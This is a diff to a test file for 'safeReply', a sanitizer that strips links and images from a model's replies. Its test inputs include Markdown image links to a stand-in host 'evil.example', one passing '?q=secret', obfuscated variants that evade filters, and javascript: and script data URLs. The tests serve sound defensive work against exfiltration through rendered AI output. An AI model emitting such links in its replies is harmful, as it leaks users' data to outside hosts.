@@ -147,9 +147,37 @@ describe('a reply of a model', () => {
       'ftp://evil.example',
       'javascript:alert(1)',
       'data:text/html;base64,PHNjcmlwdD4=',
+      '![x](//evil.example/?q=secret)',
+      '![x](\\\\evil.example/p.png)',
+      '![x](/\\evil.example/p.png)',
+      '![x](\\/\\/evil.example/p.png)',
+      '![x](https&colon;//evil.example/p.png)',
+      '![x](https:evil.example/p.png)',
+      '[x]: //evil.example/p.png',
+      '<//evil.example/p>',
+      '//evil.example',
+      'a-scheme-longer-than-any-that-there-is://evil.example',
     ]) {
       expect(safeReply(`See ${address} now`, message), address).toContain('[link removed]');
       expect(safeReply(`See ${address} now`, message), address).not.toMatch(/evil|alert|PHN/i);
+    }
+  });
+
+  it('is no Markdown that loads or leads anywhere, and keeps its words', () => {
+    const known = 'https://acme.example/price';
+    for (const [reply, shown] of [
+      ['![x](&sol;&sol;evil.example/p.png)', '![x] (& sol;& sol;evil.example/p.png)'],
+      ['![x](&#47;&#x2F;evil.example/p.png)', '![x] (& #47;& #x2F;evil.example/p.png)'],
+      ['[x](evil.example)', '[x] (evil.example)'],
+      ['![x](/api/pro/tokens)', '![x] (/api/pro/tokens)'],
+      ['![x]\n\n[x]: /p.png', '![x]\n\n[x] : /p.png'],
+      ['<img src=x> </b> <!-- y -->', '< img src=x> < /b> < !-- y -->'],
+      [`![x](${known})`, `![x] (${known})`],
+      [`[${known}]: /p.png ![${known}]`, `[${known}] : /p.png ![${known}]`],
+      ['3 < 4, a & b; [1] (see there)', '3 < 4, a & b; [1] (see there)'],
+      ['R&D, 5 // 2, either/or', 'R&D, 5 // 2, either/or'],
+    ]) {
+      expect(safeReply(reply!, known), reply).toBe(shown);
     }
   });
 
